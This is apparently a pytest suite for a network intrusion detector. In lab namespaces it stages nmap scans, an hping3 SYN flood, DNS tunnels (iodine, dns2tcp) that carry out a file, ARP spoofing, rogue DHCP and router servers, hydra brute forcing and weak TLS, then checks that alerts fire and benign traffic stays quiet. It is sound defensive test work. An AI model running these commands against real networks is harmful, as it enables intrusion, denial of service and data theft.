"""Tools that scan, flood, tunnel and guess, in namespaces: what they do is told, and what only resembles it is not."""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from netwatch_command import Run
from pair import ME, ME6, THIRD, YOU, YOU6, Pair, lacking

Act = Callable[[Pair], None]
NMAP = ("nmap", "-n", "-Pn", "--max-retries", "1")
CALLS = """
import socket, sys, time
host, port, times, pause = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
for _ in range(times):
    s = socket.create_connection((host, port)); s.sendall(b"x" * 2000); s.recv(65536); s.close(); time.sleep(pause)
"""


def scan(*words: str, to: str = YOU, ports: int = 120) -> Act:
    def act(pair: Pair) -> None:
        pair.listen(22, 80)
        pair.run(*NMAP, *words, "-p", f"1-{ports}", to)

    return act


def flood(pair: Pair) -> None:
    pair.listen(80)
    pair.run("hping3", "-S", "-p", "80", "-i", "u1000", "-c", "2500", "-q", "--rand-source", YOU)
    time.sleep(4)


def hping_scan(pair: Pair) -> None:
    pair.run("hping3", "--scan", "1-100", "-S", YOU)


def iodine(pair: Pair) -> None:
    pair.start(pair.far, "iodined", "-f", "-c", "-P", "secret", "10.53.0.1", "t.lab.example")
    time.sleep(1)
    pair.start(pair.near, "iodine", "-f", "-r", "-P", "secret", YOU, "t.lab.example")
    time.sleep(8)
    pair.run("ping", "-c", "20", "-i", "0.1", "-s", "600", "10.53.0.1")


def dns2tcp(pair: Pair) -> None:
    folder = pair.file.parent
    (folder / "server").write_text("listen = 0.0.0.0\nport = 53\ndomain = t.lab.example\n"
                                   "resources = web:127.0.0.1:8080\n")
    pair.start(pair.far, sys.executable, "-m", "http.server", "8080", "--directory", str(folder))
    pair.start(pair.far, "dns2tcpd", "-F", "-d", "1", "-f", str(folder / "server"))
    pair.start(pair.near, "dns2tcpc", "-r", "web", "-l", "8888", "-z", "t.lab.example", YOU)
    time.sleep(2)
    (folder / "secret").write_bytes(os.urandom(3000))
    pair.run("curl", "-s", "-m", "15", "--data-binary", f"@{folder}/secret", "http://127.0.0.1:8888/")


def second_station(pair: Pair) -> None:
    """The far host has another MAC, for THIRD."""
    for name in ("all", "eth0", "default"):
        pair.run("sysctl", "-qw", f"net.ipv4.conf.{name}.arp_ignore=1", where=pair.far)
    pair.run("ip", "link", "add", "link", "eth0", "name", "other", "type", "macvlan", "mode", "bridge", where=pair.far)
    pair.run("ip", "link", "set", "other", "up", where=pair.far)
    pair.run("ip", "address", "add", f"{THIRD}/24", "dev", "other", where=pair.far)


def arpspoof(pair: Pair) -> None:
    second_station(pair)
    pair.start(pair.far, "arpspoof", "-i", "eth0", "-t", ME, THIRD)
    for _ in range(5):
        pair.run("ip", "neigh", "flush", "dev", "eth0")
        pair.run("ping", "-c", "1", "-W", "1", THIRD)
        time.sleep(1.5)


def dnsmasq(pair: Pair, link: str, *words: str) -> None:
    pair.start(pair.far, "dnsmasq", "-k", "-p", "0", "-C", "/dev/null", "--bind-interfaces", "-i", link, "-I", "lo",
               "-l", str(pair.file.parent / f"leases-{link}"), "-x", str(pair.file.parent / f"pid-{link}"), *words)
    time.sleep(1)


def two_dhcp_servers(pair: Pair) -> None:
    second_station(pair)
    for link, own in (("eth0", YOU), ("other", THIRD)):
        dnsmasq(pair, link, "-F", "198.51.100.100,198.51.100.150,1h", "-O", f"3,{own}", "-O", f"6,{own}",
                "--dhcp-authoritative")
        pair.run("nmap", "-e", "eth0", "--script", "broadcast-dhcp-discover", "--script-args",
                 "broadcast-dhcp-discover.timeout=6")


def two_routers(pair: Pair) -> None:
    second_station(pair)
    words = "-F", "2001:db8:9::,ra-only,64,1h", "--enable-ra"
    dnsmasq(pair, "eth0", *words, "--ra-param=eth0,4,1800")
    time.sleep(8)
    pair.run("ip", "address", "add", "2001:db8:9::3/64", "dev", "other", where=pair.far)
    time.sleep(3)
    dnsmasq(pair, "other", *words, "--ra-param=other,4,1800")
    time.sleep(8)


def tls(server: tuple[str, ...], client: tuple[str, ...] = (), key: str = "rsa:2048", days: int = 30) -> Act:
    """OpenSSL speaks to OpenSSL, with a certificate of a root of its own."""
    def act(pair: Pair) -> None:
        folder = pair.file.parent
        for name, kind in (("root", "rsa:2048"), ("own", key)):
            pair.run("openssl", "req", "-newkey", kind, "-nodes", "-keyout", str(folder / f"{name}.key"), "-out",
                     str(folder / f"{name}.csr"), "-subj", f"/CN={name}.lab.example")
        pair.run("openssl", "x509", "-req", "-in", str(folder / "root.csr"), "-signkey", str(folder / "root.key"),
                 "-out", str(folder / "root.pem"), "-days", "30")
        signed = ("-CA", str(folder / "root.pem"), "-CAkey", str(folder / "root.key"), "-CAcreateserial")
        by = signed if "self" not in server else ("-signkey", str(folder / "own.key"))
        pair.run("openssl", "x509", "-req", "-in", str(folder / "own.csr"), "-out", str(folder / "own.pem"), "-days",
                 str(days), *by)
        words = [word for word in server if word != "self"]
        pair.start(pair.far, "openssl", "s_server", "-accept", "443", "-key", str(folder / "own.key"), "-cert",
                   str(folder / "own.pem"), "-www", *words)
        time.sleep(1)
        for _ in range(3):
            pair.run("openssl", "s_client", "-connect", f"{YOU}:443", *(client or ("-tls1_2",)))

    return act


def ssh(*, right: bool, times: int = 30) -> Act:
    """OpenSSH runs `true` by a key that is known, or by one that is not."""
    def act(pair: Pair) -> None:
        folder = pair.file.parent
        for name in ("host", "user", "stranger"):
            pair.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(folder / name))
        (folder / "sshd").write_text(f"HostKey {folder}/host\nAuthorizedKeysFile {folder}/user.pub\nStrictModes no\n"
                                     "PidFile none\nUsePAM no\nMaxStartups 100\n")
        pair.start(pair.far, "sh", "-c", f"mkdir -p /run/sshd; exec /usr/sbin/sshd -D -f {folder}/sshd")
        time.sleep(1)
        words = ("-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-F",
                 "/dev/null", "-i", str(folder / ("user" if right else "stranger")), f"root@{YOU}", "true")
        call = "ssh " + " ".join(words)
        pair.run("sh", "-c", f"for i in $(seq {times // 3}); do for k in 1 2 3; do {call} & done; wait; done")

    return act


def hydra(pair: Pair) -> None:
    server = ("import http.server as h\n"
              "class H(h.BaseHTTPRequestHandler):\n"
              "    def do_GET(self):\n"
              "        self.send_response(401); self.send_header('WWW-Authenticate', 'Basic realm=x')\n"
              "        self.send_header('Content-Length', '0'); self.end_headers()\n"
              "h.ThreadingHTTPServer(('', 8080), H).serve_forever()\n")
    pair.start(pair.far, sys.executable, "-c", server)
    time.sleep(1)
    pair.run("hydra", "-I", "-l", "admin", "-x", "2:2:a", "-t", "4", "-s", "8080", YOU, "http-get", "/")


def calls(times: int, pause: float) -> Act:
    def act(pair: Pair) -> None:
        pair.listen(443)
        pair.run(sys.executable, "-c", CALLS, YOU, "443", str(times), str(pause))

    return act


def pings(pair: Pair) -> None:
    pair.run("ping", "-c", "40", "-i", "0.1", YOU)


def one_port_is_looked_at(pair: Pair) -> None:
    """As a monitor does: the same closed and open ports again and again."""
    pair.listen(80)
    for _ in range(6):
        pair.run(*NMAP, "-sT", "-p", "80,443,8080", YOU)


SLOWLY = "nmap -T1"  # ten minutes and more
MUST: dict[str, tuple[tuple[str, ...], str, Act]] = {
    "nmap -sS": (("nmap",), "port_scan", scan("-sS")),
    "nmap -sT": (("nmap",), "port_scan", scan("-sT")),
    "nmap -sU": (("nmap",), "port_scan", scan("-sU", "--min-rate", "50", ports=60)),
    "nmap -sF": (("nmap",), "port_scan", scan("-sF")),
    "nmap -sX": (("nmap",), "port_scan", scan("-sX")),
    "nmap -sN": (("nmap",), "port_scan", scan("-sN")),
    "nmap -sA": (("nmap",), "port_scan", scan("-sA")),
    "nmap -T2": (("nmap",), "port_scan", scan("-sS", "-T2", ports=40)),
    "nmap -6": (("nmap",), "port_scan", scan("-6", "-sS", to=YOU6)),
    "nmap -D": (("nmap",), "port_scan", scan("-sS", "-D", "203.0.113.5,203.0.113.6,ME")),
    "hping3 --scan": (("hping3",), "port_scan", hping_scan),
    "hping3 flood": (("hping3",), "syn_flood", flood),
    "iodine": (("iodine", "iodined"), "dns_tunnel", iodine),
    "dns2tcp": (("dns2tcpc", "dns2tcpd", "curl"), "dns_tunnel", dns2tcp),
    "hydra http": (("hydra",), "brute_force", hydra),
    "ssh, strange keys": (("ssh", "sshd"), "brute_force", ssh(right=False)),
    "arpspoof": (("arpspoof",), "arp_spoof", arpspoof),
    "dnsmasq, DHCP": (("dnsmasq", "nmap"), "rogue_dhcp", two_dhcp_servers),
    "dnsmasq, RA": (("dnsmasq",), "rogue_router", two_routers),
    "openssl, expired": (("openssl",), "certificate", tls((), days=0)),
    "openssl, 1024 bits": (("openssl",), "certificate", tls(("-cipher", "ALL:@SECLEVEL=0"),
                                                           ("-tls1_2", "-cipher", "ALL:@SECLEVEL=0"), "rsa:1024")),
    "openssl, signed by itself": (("openssl",), "certificate", tls(("self",))),
    "openssl, TLS 1.0": (("openssl",), "weak_tls", tls(("-tls1", "-cipher", "ALL:@SECLEVEL=0"),
                                                      ("-tls1", "-cipher", "ALL:@SECLEVEL=0"))),
    "openssl, no encryption": (("openssl",), "weak_tls", tls(("-cipher", "NULL:@SECLEVEL=0"),
                                                            ("-tls1_2", "-cipher", "NULL:@SECLEVEL=0"))),
    SLOWLY: (("nmap",), "port_scan", scan("-sS", "-T1", "--max-retries", "0", ports=42)),
}
MUST_NOT: dict[str, tuple[tuple[str, ...], Act]] = {
    "a burst of a browser": ((), calls(200, 0)),
    "jobs that call again and again": ((), calls(60, 0.1)),
    "pings of a monitor": (("ping",), pings),
    "ports that are looked at": (("nmap",), one_port_is_looked_at),
    "jobs by ssh": (("ssh", "sshd"), ssh(right=True)),
    "openssl, TLS 1.2": (("openssl",), tls(())),
}


def told(netwatch: Run, pair: Pair) -> list[dict[str, object]]:
    lines = netwatch("read", pair.file, "--what", "alerts", "--format", "ndjson", "--set",
                     "detect.rogue_router.learn_s=5").stdout.splitlines()
    return [record for record in map(json.loads, lines) if record["kind"] != "new_device"]


@pytest.mark.parametrize("name", MUST)
def test_what_the_tool_does_is_told(name: str, netwatch: Run, tmp_path: Path) -> None:
    programs, kind, act = MUST[name]
    if why := lacking(*programs):
        pytest.skip(why)
    if name == SLOWLY and "NETWATCH_SLOWLY" not in os.environ:
        pytest.skip("takes eleven minutes: set NETWATCH_SLOWLY=1")
    with Pair(tmp_path) as pair:
        act(pair)
        pair.settle()
    found = told(netwatch, pair)
    assert kind in {each["kind"] for each in found}, (pair.said, found)
    assert {each["kind"] for each in found} <= {kind, "cleartext"}, found
    if kind == "port_scan":
        assert {each["src"] for each in found} & {ME, ME6}


@pytest.mark.parametrize("name", MUST_NOT)
def test_what_only_resembles_it_is_not(name: str, netwatch: Run, tmp_path: Path) -> None:
    programs, act = MUST_NOT[name]
    if why := lacking(*programs):
        pytest.skip(why)
    with Pair(tmp_path) as pair:
        act(pair)
        pair.settle()
    assert told(netwatch, pair) == []
